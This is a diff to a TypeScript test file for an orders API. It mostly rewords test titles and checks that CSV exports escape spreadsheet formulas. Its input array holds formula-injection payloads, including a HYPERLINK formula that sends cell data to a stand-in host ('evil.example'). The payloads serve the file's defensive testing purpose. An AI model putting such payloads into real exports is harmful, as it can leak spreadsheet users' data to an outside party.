@@ -1,4 +1,4 @@
-/** What a document may hold in each media type, whatever its values are. */
+/** What a document in each media type may contain, whatever its values. */
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import { reportCsv } from '../../examples/orders/print.ts'
@@ -11,7 +11,7 @@ import { json, order, startOrders } from './orders-over-rest.ts'
 
 const formulas = ['=HYPERLINK("http://evil.example"&A1)', '+1+cmd', '-2+3', '@SUM(A1)', '\t=1', '\r=1']
 
-test('A1.6 a cell of text that a spreadsheet would take for a formula begins with an apostrophe; numbers do not', () => {
+test('A1.6 a text cell that a spreadsheet would take for a formula begins with an apostrophe; numbers do not', () => {
   const fields = {
     text: t.string(),
     many: t.list(t.string()),
@@ -31,7 +31,7 @@ test('A1.6 a cell of text that a spreadsheet would take for a formula begins wit
   }
 })
 
-test('A1.6 notes of customers come out of the CSV of orders as text, and names out of that of a report', async () => {
+test("A1.6 customers' notes are text in the CSV of orders, and so are names in that of a report", async () => {
   const shop = await startOrders()
   for (const note of formulas) await shop.as.alice('POST', '/api/v2/orders', json, { ...order, note })
   const { text } = await shop.as.clara('GET', '/api/v2/orders?fields=note&size=6', { accept: 'text/csv' })
@@ -42,7 +42,7 @@ test('A1.6 notes of customers come out of the CSV of orders as text, and names o
   assert.match(reportCsv(report), /p-1,'=1\+1,EUR,1,1\.00/)
 })
 
-test('A4.24 the members asked for choose what a page shows of one item, and the columns of a list', async () => {
+test('A4.24 the requested members decide what a page shows of one item, and the columns of a list', async () => {
   const shop = await startOrders()
   const html = { accept: 'text/html' }
   const { text: one } = await shop.as.anyone('GET', '/api/v2/products/p-1?fields=name', html)
@@ -56,7 +56,7 @@ test('A4.24 the members asked for choose what a page shows of one item, and the 
   assert.match(many, /20 of 20/)
 })
 
-test('A1.6 a writer of the application replaces ours for its media type, and stands behind the others', async () => {
+test('A1.6 a writer of the application replaces ours for its media type, and comes after the others', async () => {
   const notes = resource('notes', { fields: { id: t.id('n'), text: t.string() } }).rules({
     allow: { read: [anyone], create: [anyone] },
   })
